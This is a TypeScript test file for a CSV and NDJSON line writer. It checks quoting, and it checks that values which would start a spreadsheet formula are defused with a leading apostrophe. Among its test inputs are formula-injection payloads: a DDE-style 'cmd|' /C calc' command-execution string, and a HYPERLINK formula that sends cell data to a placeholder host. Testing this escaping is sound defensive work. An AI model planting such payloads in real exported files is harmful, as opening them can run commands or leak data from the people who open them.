import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type Cell, column } from "./table.ts";
import { headOf, lineOf } from "./written.ts";

const columns = [column("a", "text"), column("b", "number")];

describe("a line of CSV", () => {
  test.each<readonly [string, Cell, string]>([
    ["nothing", null, ""],
    ["an empty text", "", '""'],
    ["a word", "negative", "negative"],
    ["a comma", "a,b", '"a,b"'],
    ["a quote", 'a"b', '"a""b"'],
    ["a line break", "a\r\nb", '"a\r\nb"'],
    ["a number", -5.25, "-5.25"],
    ["a negative number that is text", "-5.25", "-5.25"],
    ["a positive number that is text", "+3", "+3"],
    ["a formula", "=1+1", "'=1+1"],
    ["a formula with a call", '=HYPERLINK("http://x/"&A1)', '"\'=HYPERLINK(""http://x/""&A1)"'],
    ["a plus", "+1-555", "'+1-555"],
    ["a minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["an at", "@SUM(A1)", "'@SUM(A1)"],
    ["a tab", "\t=1", "'\t=1"],
    ["a carriage return", "\r=1", '"\'\r=1"'],
    ["a line feed", "\n=1", '"\'\n=1"'],
    ["a grade, which begins with a digit", "1+", "1+"],
    ["blanks at the ends", " a ", '" a "'],
  ])("with %s", (_, cell, written) => {
    expect(lineOf(columns.slice(0, 1), [cell], "csv")).toBe(`${written}\r\n`);
  });

  test("no text begins a formula when a spreadsheet opens it, and every text comes back", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 20 }), fc.double({ noNaN: true }), (text, number) => {
        const file = headOf(columns, "csv") + lineOf(columns, [text, number], "csv");
        const [, row] = parse(file, { relax_column_count: false }) as string[][];
        const [cell, written] = row!;
        expect(Number(written)).toBe(number === 0 ? 0 : number);
        const isPlain = /^[+-]?\d+([.,]\d+)?$/.test(text);
        if (!isPlain) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
        expect(cell === text || cell === `'${text}`).toBe(true);
      }),
      {
        examples: [
          ["=1", 0],
          ["-", -1],
          ["@", 1e-7],
          ["-5,2", 0],
        ],
      },
    );
  });
});

test("a line of JSON names its columns and holds any text", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      const line = lineOf(columns, [text, null], "ndjson");
      expect(line.indexOf("\n")).toBe(line.length - 1);
      expect(JSON.parse(line)).toEqual({ a: text, b: null });
    }),
  );
  expect(headOf(columns, "ndjson")).toBe("");
});
